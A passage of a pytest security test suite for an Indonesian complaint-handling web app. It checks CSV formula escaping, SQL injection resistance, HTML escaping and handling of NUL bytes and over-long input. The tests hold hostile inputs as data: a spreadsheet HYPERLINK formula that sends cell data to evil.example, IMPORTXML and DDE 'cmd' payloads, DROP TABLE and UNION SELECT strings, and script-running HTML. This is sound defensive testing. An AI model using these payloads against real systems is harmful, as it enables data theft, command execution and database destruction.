    assert request.find("request/description").text.startswith("Lubang\ufffdbesar\ufffd[31m")


# =============================================================================================
# 2. Spreadsheet formulas in every CSV the app writes
# =============================================================================================

FORMULAS = {
    "complaint title": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "category name": "+cmd|' /C calc'!A0",
    "supervisor name": "-2+3+cmd|' /C calc'!A0",
    "supervision title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "participants": "\t=1+1",
    "findings": "\r=1+1",
    "action description": "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "action owner": "@owner",
    "document title": "-1+1",
}


def test_no_csv_cell_runs_as_a_formula(app, scene):
    """Text typed by citizens, staff and admins that starts like a formula (=, +, -, @, or
    a tab or carriage return before one) is written with a leading apostrophe in the report
    CSV and in every CSV of the evidence pack (pengaduan/spreadsheet.py); no cell of any of
    them starts like a formula."""
    import zipfile

    from pengaduan.models import Category, Unit
    from pengaduan.services.administration.accounts import update_category, update_user

    f = FORMULAS
    with app.app_context():
        update_category(Category.by_code("GENERAL"), name=f["category name"], unit_codes=[],
                        active=True, actor=Actor.cli("test"))
        update_user(User.by_email(SUPERVISOR_A), name=f["supervisor name"], role="supervisor",
                    unit_codes=["UNIT-A"], active=True, actor=Actor.cli("test"))
        _file(complaint_raw(title=f["complaint title"]))
        sv.record_supervision(actor_of(SUPERVISOR_A), {
            "kind": "spot_check", "held_on": sv.today(), "title": f["supervision title"],
            "participants": f["participants"], "findings": f["findings"], "units": ["UNIT-A"],
            "actions": [{"description": f["action description"], "owner": f["action owner"], "due_on": ""}]})
        docs.upload_document(actor_of(SUPERVISOR_A), Unit.by_code("UNIT-A"), {
            "kind": "compensation_policy", "title": f["document title"], "valid_from": "2026-01-01"},
            store([("kompensasi.pdf", pdf(), "application/pdf")]))
        db.session.commit()
    start, end = period()
    auditor = signed_in(app, AUDITOR)
    report = auditor.get(f"/staff/reports?from={start}&to={end}&format=csv")
    assert report.status_code == 200 and report.mimetype == "text/csv"
    assert report.headers["Content-Disposition"].startswith("attachment;")
    sheets = {"report.csv": report.get_data(as_text=True)}
    pack = auditor.post("/staff/evidence", data={"csrf_token": get_page(auditor, "/staff/evidence").token,
                                                 "from": start, "to": end, "unit": ""})
    assert pack.status_code == 200
    with zipfile.ZipFile(io.BytesIO(pack.data)) as archive:
        sheets.update({name: archive.read(name).decode() for name in archive.namelist()
                       if name.endswith(".csv")})
    assert {"register.csv", "sla.csv", "supervision.csv", "supervision_actions.csv",
            "documents.csv"} <= set(sheets)
    for name, text in sheets.items():
        assert formula_cells(text) == [], name
    cells = {cell for text in sheets.values() for cell in csv_cells(text)}
    for field_name, formula in f.items():
        assert "'" + formula.strip() in cells, field_name


# =============================================================================================
# 3. SQL injection in every filter and search
# =============================================================================================

SQL = ["' OR 1=1--", "' OR '1'='1", '" OR ""="', "%' UNION SELECT tracking_code FROM complaints--",
       "1;DROP TABLE complaints", "1); DROP TABLE users;--", "\\", "\\' OR 1=1 --", "%", "_",
       "UNIT-B' OR unit_id=1--", "0 OR 1=1", "-1", "1e309", "'; SELECT pg_sleep(5);--", "\u00ff' OR 1=1"]


def _sql_surfaces(scene: Scene):
    """(who, method, url builder, extra) for every filter and search, asked as officer B
    (UNIT-B) unless a wider reader is needed; what comes back must never show UNIT-A."""
    yield from [(OFFICER_B, f"/staff/queue?{name}={{}}") for name in
                ("q", "state", "category", "due_within", "cursor", "overdue", "mine", "unassigned")]
    yield OFFICER_B, "/staff/queue?q={}&state={}&category={}&due_within={}&cursor={}"
    yield OFFICER_B, "/staff/complaints/{}"
    yield OFFICER_B, "/staff/notifications?before={}"
    yield OFFICER_B, "/staff/supervision?from={}&to={}&unit={}&kind={}"
    yield OFFICER_B, "/staff/supervision/documents?unit={}"
    yield OFFICER_B, "/staff/reports?from={}&to={}&unit={}&format={}"
    yield OFFICER_B, "/staff/reports?unit={}&format=csv"
    yield SUPERVISOR_B, "/staff/evidence?from={}&to={}&unit={}"
    yield SUPERVISOR_B, "/staff/readiness/{}"
    yield SUPERVISOR_B, "/staff/readiness/{}/readiness.csv"
    yield "anonymous", "/track?code={}"
    yield "anonymous", "/open311/v2/requests.json?service_request_id={}"
    yield "anonymous", "/open311/v2/requests.json?service_code={}&status={}&start_date={}&end_date={}"
    yield "anonymous", "/open311/v2/requests/{}.xml"
    yield "anonymous", "/open311/v2/tokens/{}.json"
    yield "anonymous", "/open311/v2/services/{}.json"
    yield ADMIN, "/admin/calendar?year={}"
    yield ADMIN, "/admin/units/{}"
    yield ADMIN, "/admin/categories/{}"
    yield "token:" + OFFICER_B, "/api/v1/complaints?state={}&unit={}&overdue={}&cursor={}&limit={}"
    yield "token:" + OFFICER_B, "/api/v1/complaints?unit={}"
    yield "token:" + OFFICER_B, "/api/v1/complaints/{}"
    yield "token:" + OFFICER_B, "/api/v1/complaints/{}/events"


def test_sql_payloads_in_filters_leak_nothing_and_break_nothing(app, scene):
    """Each payload in every query parameter and path segment used in a lookup: never a
    5xx, never a complaint, record or document of another unit (officer B of UNIT-B asks),
    never a confidential complaint in Open311; afterwards every table is there, unchanged."""
    from urllib.parse import quote

    hidden = [scene.a, scene.secret, scene.closed, scene.late, "Pembinaan UNIT-A", "SK UNIT-A",
              "Temuan UNIT-A", "Jalan rusak di UNIT-A"]
    clients = {who: signed_in(app, who) for who in (OFFICER_B, SUPERVISOR_B, ADMIN)}
    clients["anonymous"] = browser(app)
    clients["anonymous"].get("/api/v1/complaints", headers=bearer(scene.tokens[OFFICER_B]))  # its last use
    before = fingerprint(app)
    for who, template in _sql_surfaces(scene):
        headers = {}
        if who.startswith("token:"):
            who, headers = "anonymous", bearer(scene.tokens[who.split(":", 1)[1]])
        for payload in SQL:
            value = quote(payload, safe="")
            url = template.format(*[value] * template.count("{}"))
            response = clients[who].get(url, headers=headers)
            assert response.status_code < 500, (url, response.status_code)
            body = response.get_data(as_text=True)
            leaked = [h for h in hidden if h in body]
            if who != ADMIN and "/open311/" not in url:
                assert leaked == [], (url, leaked)
            assert scene.secret not in body, url
    for payload in SQL:  # the complainant's and the staff's sign-in forms
        citizen = browser(app)
        token = get_page(citizen, "/track").token
        for code, pin in ((payload, payload), (scene.a, payload), (payload, scene.a_pin)):
            response = citizen.post("/track", data={"csrf_token": token, "code": code, "pin": pin})
            assert response.status_code == 404, (code, pin)
        response = citizen.get(f"/api/v1/complaints/{scene.a}", headers={"X-Tracking-Pin": payload})
        assert response.status_code == 404
        stranger = browser(app)
        token = get_page(stranger, "/login").token
        for email, password in ((payload, payload), (payload, PASSWORD), (OFFICER_B + payload, PASSWORD)):
            response = stranger.post("/login", data={"csrf_token": token, "email": email,
                                                      "password": password})
            assert response.status_code == 401, email
    assert changed_tables(before, fingerprint(app)) == ["sign_in_attempts"]  # each try is recorded


# Error messages that repeat what was typed (a file name, a code) are lazy strings. flask-babel's
# own LazyString tells Jinja it is safe markup; pengaduan.i18n's LazyText is escaped like text.
HTML_FILE = b"<html><body><script>xss1337()</script></body></html>"
NAMED = "<img src=x onerror=xss1337()>"  # no slash: it survives the file-name clean-up


def _refused_with_a_named_value(app, scene: Scene, where: str):
    from test_citizen import valid_form

    if where == "complaint form: file name (no sign-in)":
        client = browser(app)
        data = {**valid_form(), "csrf_token": get_page(client, "/complaints/new").token,
                "attachments": [(io.BytesIO(HTML_FILE), NAMED + ".jpg")]}
        return client.post("/complaints/new", data=data, content_type="multipart/form-data")
    if where == "complaint form: unit name in 'not handled by'":
        from pengaduan.models import Unit
        from pengaduan.services.administration.accounts import update_unit

        with app.app_context():
            update_unit(Unit.by_code("UNIT-A"), name=NAMED, timezone="Asia/Jakarta",
                        working_days="12345", cuti_bersama_off=True, active=True, actor=Actor.cli("test"))
            db.session.commit()
        client = browser(app)
        data = {**valid_form(), "category": "ONLY-B", "csrf_token": get_page(client, "/complaints/new").token}
        return client.post("/complaints/new", data=data)
    if where.startswith("supervision form"):
        client = signed_in(app, SUPERVISOR_A)
        field_name = "complaints" if "complaint codes" in where else "units"
        data = {"csrf_token": get_page(client, "/staff/supervision/new").token, "kind": "coaching",
                "held_on": "2026-01-05", "title": "Pembinaan", "units": ["UNIT-A"], "complaints": ""}
        data[field_name] = "<svg/onload=xss1337()>" if field_name == "complaints" else ["UNIT-A", NAMED]
        return client.post("/staff/supervision/new", data=data)
    if where == "supervision file: file name":
        client = signed_in(app, SUPERVISOR_A)
        return client.post(f"/staff/supervision/{scene.record_a}/files", data={
            "csrf_token": token_of(client), "files": [(io.BytesIO(HTML_FILE), NAMED + ".png")]},
            content_type="multipart/form-data")
    if where == "standing document: file name":
        client = signed_in(app, SUPERVISOR_A)
        return client.post("/staff/supervision/documents", data={
            "csrf_token": token_of(client), "unit": "UNIT-A", "kind": "complaint_sop", "title": "SOP",
            "valid_from": "2026-01-01", "file": (io.BytesIO(HTML_FILE), NAMED + ".pdf")},
            content_type="multipart/form-data")
    assert where == "admin account form: unit code"
    client = signed_in(app, ADMIN)
    return client.post("/admin/users", data={"csrf_token": token_of(client), "email": "baru@example.id",
                                             "role": "officer", "name": "Baru", "units": [NAMED]})


LAZY_PLACES = ["complaint form: file name (no sign-in)", "complaint form: unit name in 'not handled by'",
               "supervision form: complaint codes", "supervision form: unit codes",
               "supervision file: file name", "standing document: file name",
               "admin account form: unit code"]


def test_a_typed_value_repeated_in_an_error_message_stays_text(app, scene):
    """A refused value that the error message names (the file name of a file that is not a
    photo, a complaint or unit code that does not fit, a unit name) is shown as text.

    The first place is reachable without signing in: the complaint form checks its files
    (and answers 422 naming them) before its own token, so any page could send a file named
    `<img src=x onerror=...>.jpg`. The CSP would stop inline handlers, but not injected
    markup (a <meta http-equiv=refresh>, links, a fake form)."""
    found = {}
    for where in LAZY_PLACES:
        response = _refused_with_a_named_value(app, scene, where)
        assert response.status_code == 422, (where, response.status_code)
        problems = injection_problems(response.get_data(as_text=True),
                                      [NAMED, "<svg/onload=xss1337()>"])
        if problems:
            found[where] = problems
    assert found == {}


# =============================================================================================
# 4. Values no database column can hold: NUL bytes, numbers beyond 64 bits, over-long text
# =============================================================================================

HUGE = "9" * 30  # an id "guessed" far beyond any row; no integer column holds it


def _int_routes(app) -> list[tuple[str, str]]:
    """(method, rule) of every route with an integer in its path, from the URL map."""
    routes = []
    for rule in app.url_map.iter_rules():
        if any(isinstance(c, IntegerConverter) for c in rule._converters.values()):
            method = "GET" if "GET" in rule.methods else "POST"
            routes.append((method, rule.endpoint))
    return sorted(routes)


INT_ROUTE_READERS = {  # who may reach the view at all, and the other arguments it needs
    "admin.response": ADMIN, "admin.user": ADMIN, "admin.user_password": ADMIN,
    "admin.user_two_factor": ADMIN,
    "citizen.attachment": "citizen", "staff.attachment": OFFICER_A, "staff.open_notification": OFFICER_A,
    "staff.instruction_done": OFFICER_A,
    "supervision.action_status": SUPERVISOR_A, "supervision.add_action": SUPERVISOR_A,
    "supervision.add_files": SUPERVISOR_A, "supervision.document_file": SUPERVISOR_A,
    "supervision.edit": SUPERVISOR_A, "supervision.record": SUPERVISOR_A,
    "supervision.record_file": SUPERVISOR_A, "public.office_logo": ADMIN,
    "survey_results.report": OFFICER_A, "survey_results.report_pdf": OFFICER_A,
    "survey_results.add_action": SUPERVISOR_A, "survey_results.update_action": SUPERVISOR_A,
    "surveys.period": OFFICER_A, "surveys.poster": OFFICER_A, "surveys.paper": OFFICER_A,
    "surveys.edit": SUPERVISOR_A,
    "compensation.detail": OFFICER_A, "compensation.evidence_file": OFFICER_A,
    "compensation.correct": OFFICER_A,
    "evaluation.update_action": SUPERVISOR_A,
    "ombudsman.product": OFFICER_A, "ombudsman.product_file": OFFICER_A, "ombudsman.item_file": OFFICER_A,
    "ombudsman.add_item": SUPERVISOR_A, "ombudsman.reported": SUPERVISOR_A, "ombudsman.item_done": OFFICER_A,
    "ombudsman.item_drop": SUPERVISOR_A, "ombudsman.item_reopen": SUPERVISOR_A,
    "ombudsman.edit": SUPERVISOR_A, "ombudsman.item_deadline": SUPERVISOR_A,
}


def test_integer_routes_are_all_known(app):
    assert {endpoint for _, endpoint in _int_routes(app)} == set(INT_ROUTE_READERS)


def _huge_id_answers(app, scene: Scene) -> dict[str, int | str]:
    from flask import url_for

    answers = {}
    app.config["PROPAGATE_EXCEPTIONS"] = False
    for endpoint, who in sorted(INT_ROUTE_READERS.items()):
        client = citizen_of(app, scene.a, scene.a_pin) if who == "citizen" else signed_in(app, who)
        rule = next(r for r in app.url_map.iter_rules() if r.endpoint == endpoint)
        args = {name: HUGE for name in rule.arguments}
        if "code" in args:
            args["code"] = scene.a
        if endpoint == "supervision.action_status":
            args["record_id"] = scene.record_a
        if endpoint == "survey_results.update_action":
            args["period_id"] = scene.survey_a
        with app.test_request_context():
            url = url_for(endpoint, **args)
        try:
            if "GET" in rule.methods:
                response = client.get(url)
            else:
                response = client.post(url, data={"csrf_token": token_of(client), "status": "done"})
            answers[endpoint] = response.status_code
        except Exception as exc:  # the error page itself failed (PostgreSQL: aborted transaction)
            answers[endpoint] = type(exc).__name__
    return answers


def test_an_id_beyond_any_row_is_not_found(app, scene):
    """/staff/supervision/999...9, /track/<code>/files/999...9 and every other route with an
    id in its path (from the URL map): 404 like any id that does not exist, never a server
    error (SQLite cannot bind it, PostgreSQL's INTEGER stops at 2**31 - 1)."""
    answers = _huge_id_answers(app, scene)
    assert {endpoint: answer for endpoint, answer in answers.items() if answer != 404} == {}


def test_a_notification_cursor_beyond_any_row_is_ignored(app, scene):
    """/staff/notifications?before=<huge>: the inbox as from the top, never a server error."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    officer = signed_in(app, OFFICER_A)
    assert [officer.get(f"/staff/notifications?before={v}").status_code
            for v in (HUGE, "-" + HUGE, "2147483648")] == [200, 200, 200]


NUL_LOOKUP = {  # where a NUL byte reaches a query as a value to compare
    "staff queue search": (OFFICER_A, "GET", "/staff/queue?q=a%00b"),
    "staff queue state": (OFFICER_A, "GET", "/staff/queue?state=%00"),
    "staff queue category": (OFFICER_A, "GET", "/staff/queue?category=%00"),
    "staff complaint code": (OFFICER_A, "GET", "/staff/complaints/AB%00CD"),
    "tracking page code": ("anonymous", "GET", "/track/AB%00CD"),
    "tracking form": ("anonymous", "POST", "/track"),
    "sign-in email": ("anonymous", "POST", "/login"),
    "open311 ids": ("anonymous", "GET", "/open311/v2/requests.json?service_request_id=%00"),
    "open311 request": ("anonymous", "GET", "/open311/v2/requests/AB%00.json"),
    "open311 token": ("anonymous", "GET", "/open311/v2/tokens/AB%00.json"),
    "open311 service": ("anonymous", "GET", "/open311/v2/services/A%00.B.json"),
    "open311 service filter": ("anonymous", "GET", "/open311/v2/requests.json?service_code=A%00.B"),
    "admin unit": (ADMIN, "GET", "/admin/units/A%00"),
    "admin category": (ADMIN, "GET", "/admin/categories/A%00"),
    "api complaint": ("token", "GET", "/api/v1/complaints/AB%00CD"),
    "api list": ("token", "GET", "/api/v1/complaints?unit=A%00&cursor=%00"),
    "supervision filter": (SUPERVISOR_A, "GET", "/staff/supervision?unit=%00&kind=%00&from=%00"),
    "report filter": (SUPERVISOR_A, "GET", "/staff/reports?unit=%00&from=%00"),
    "readiness unit": (SUPERVISOR_A, "GET", "/staff/readiness/A%00"),
}
NUL_CRASHES_ON_POSTGRESQL = {
    "staff queue search", "staff queue state", "staff queue category", "staff complaint code",
    "tracking page code", "sign-in email", "open311 ids", "open311 request", "open311 token",
    "open311 service", "open311 service filter", "admin unit", "admin category", "api complaint",
    "api list", "readiness unit"}


def _nul_lookup_answers(app, scene: Scene, places) -> dict[str, int]:
    answers = {}
    app.config["PROPAGATE_EXCEPTIONS"] = False
    clients = {who: signed_in(app, who) for who in (OFFICER_A, SUPERVISOR_A, ADMIN)}
    for where in sorted(places):
        who, method, url = NUL_LOOKUP[where]
        headers = {}
        client = clients.get(who) or browser(app)
        if who == "token":
            headers = bearer(scene.tokens[OFFICER_A])
        if method == "GET":
            response = client.get(url, headers=headers)
        elif url == "/track":
            response = client.post(url, data={"csrf_token": get_page(client, "/track").token,
                                              "code": "AB\x00CD", "pin": "12\x0034"})
        else:
            response = client.post(url, data={"csrf_token": get_page(client, "/login").token,
                                              "email": "officer.a\x00@example.id", "password": "x"})
        answers[where] = response.status_code
    return answers


def test_a_nul_byte_in_a_lookup_is_not_a_server_error(app, scene):
    """A NUL byte in a search, filter, code or email finds nothing or is refused; never a
    500 (the places that do not crash on PostgreSQL either)."""
    answers = _nul_lookup_answers(app, scene, set(NUL_LOOKUP) - NUL_CRASHES_ON_POSTGRESQL)
    assert {where: status for where, status in answers.items() if status >= 500} == {}


def test_a_nul_byte_in_a_code_search_or_email_is_not_a_server_error(app, scene):
    """The same for the queue search and filters, complaint codes on staff, tracking and
    Open311 pages, unit and category codes, and the sign-in email: PostgreSQL refuses NUL
    in any text it compares."""
    answers = _nul_lookup_answers(app, scene, NUL_CRASHES_ON_POSTGRESQL)
    assert {where: status for where, status in answers.items() if status >= 500} == {}


def _nul_text(app, scene: Scene, where: str):
    """Send free text with a NUL byte where it would be stored."""
    from test_citizen import valid_form

    text = "Jalan\x00rusak"
    if where == "complaint form":
        client = browser(app)
        data = {**valid_form(), "title": text, "csrf_token": get_page(client, "/complaints/new").token}
        return client.post("/complaints/new", data=data)
    if where == "api filing":
        return browser(app).post("/api/v1/complaints", json={
            "unit": "UNIT-A", "title": text, "description": text, "privacy": "anonymous"})
    if where == "open311 filing":
        return browser(app).post("/open311/v2/requests.json", data={
            "api_key": scene.api_key, "service_code": "UNIT-A.GENERAL", "description": text,
            "address_string": "Jl. Merdeka"})
    if where == "internal note":
        client = signed_in(app, OFFICER_A)
        return client.post(f"/staff/complaints/{scene.a}/note", data={"csrf_token": token_of(client),
                                                                      "note": text})
    if where == "workflow step":
        client = signed_in(app, OFFICER_A)
        action = f"/staff/complaints/{scene.a}/act/request_info"
        values = get_page(client, f"/staff/complaints/{scene.a}?step=request_info").forms[action].values
        return client.post(action, data={**values, "message": text})
    if where == "supervision record":
        client = signed_in(app, SUPERVISOR_A)
        with app.app_context():
            today = sv.today().isoformat()
        return client.post("/staff/supervision/new", data={
            "csrf_token": get_page(client, "/staff/supervision/new").token, "kind": "coaching",
            "held_on": today, "title": text, "units": ["UNIT-A"]})
    assert where == "admin unit name"
    client = signed_in(app, ADMIN)
    return client.post("/admin/units", data={"csrf_token": token_of(client), "code": "UNIT-C",
                                             "name": text, "timezone": "Asia/Jakarta",
                                             "working_days": "12345"})


NUL_TEXT_PLACES = ["complaint form", "api filing", "open311 filing", "internal note", "workflow step",
                   "supervision record", "admin unit name"]


def test_a_nul_byte_in_free_text_is_refused_with_a_message(app, scene):
    """Text with a NUL byte (complaint form, API and Open311 filing, a note, a workflow
    step, a supervision record, an admin's unit name) is refused, saying why, and nothing
    is stored; never a 500."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    before = fingerprint(app)
    answers = {}
    for where in NUL_TEXT_PLACES:
        try:
            response = _nul_text(app, scene, where)
            said = "NUL" in response.get_data(as_text=True)
            answers[where] = response.status_code if said else f"{response.status_code} without a reason"
        except Exception as exc:
            answers[where] = type(exc).__name__
    assert {where: a for where, a in answers.items() if a != 400} == {}
    # staff signed in meanwhile
    assert set(changed_tables(before, fingerprint(app))) <= {"users", "sign_in_attempts"}


def test_deeply_nested_json_is_refused_not_a_server_error(app, scene):
    """JSON nested thousands of levels deep (beyond the parser's recursion) is a 400 where
    JSON is taken (the API); elsewhere it is never parsed, and never a 500."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    body = "[" * 5000 + "]" * 5000
    for url in ("/api/v1/complaints", f"/api/v1/complaints/{scene.a}/transitions"):
        response = browser(app).post(url, data=body, content_type="application/json",
                                     headers=bearer(scene.tokens[OFFICER_A]))
        assert response.status_code == 400, url
    for url in ("/open311/v2/requests.json", "/track", "/login"):
        assert browser(app).post(url, data=body, content_type="application/json").status_code < 500, url


def test_json_errors_carry_plain_text(app):
    """An error answered as JSON repeats a typed value as typed: the JSON encoder would
    otherwise serialise a lazy message through its (escaping) __html__."""
    from flask import jsonify

    from pengaduan.errors import InvalidFields
    from pengaduan.i18n import lazy_gettext

    error = InvalidFields({"unit": lazy_gettext("unknown unit %(code)s", code="<b>X</b>")})
    with app.test_request_context(headers={"Accept-Language": "en"}):
        body = jsonify(error=error.to_dict()).get_data(as_text=True)
    assert "<b>X</b>" in body and "&lt;" not in body


def test_a_staff_name_taken_from_a_long_email_fits_its_column(app, scene):
    from pengaduan.services import create_user

    with app.app_context():
        user, _ = create_user("a" * 230 + "@example.id", "auditor")
        db.session.commit()
        assert len(user.name) <= 200


LONG_NAME = "Dinas " + "x" * 250  # longer than the 200-character columns


def _long_admin_text(client, scene: Scene, where: str):
    token = token_of(client)
    if where == "unit name":
        return client.post("/admin/units", data={"csrf_token": token, "code": "UNIT-C", "name": LONG_NAME,
                                                 "timezone": "Asia/Jakarta", "working_days": "12345"})
    if where == "category name":
        return client.post("/admin/categories", data={"csrf_token": token, "code": "BARU", "name": LONG_NAME})
    if where == "staff name":
        return client.post(f"/admin/users/{scene.users[OFFICER_A]}", data={
            "csrf_token": token, "name": LONG_NAME, "role": "officer", "units": ["UNIT-A"], "active": "1"})
    assert where == "response template title"
    return client.post("/admin/responses", data={"csrf_token": token, "title": LONG_NAME, "body": "Isi",
                                                 "category": ""})


def test_over_long_admin_text_is_refused_not_a_server_error(app, scene):
    """A unit, category or staff name or a response template title longer than its column
    is refused at its field (422), never a 500 (PostgreSQL refuses a value longer than its
    VARCHAR column)."""
    app.config["PROPAGATE_EXCEPTIONS"] = False
    admin = signed_in(app, ADMIN)
    answers = {}
    for where in ("unit name", "category name", "staff name", "response template title"):
        try:
            answers[where] = _long_admin_text(admin, scene, where).status_code
        except Exception as exc:
            answers[where] = type(exc).__name__
    assert {where: a for where, a in answers.items() if a != 422} == {}
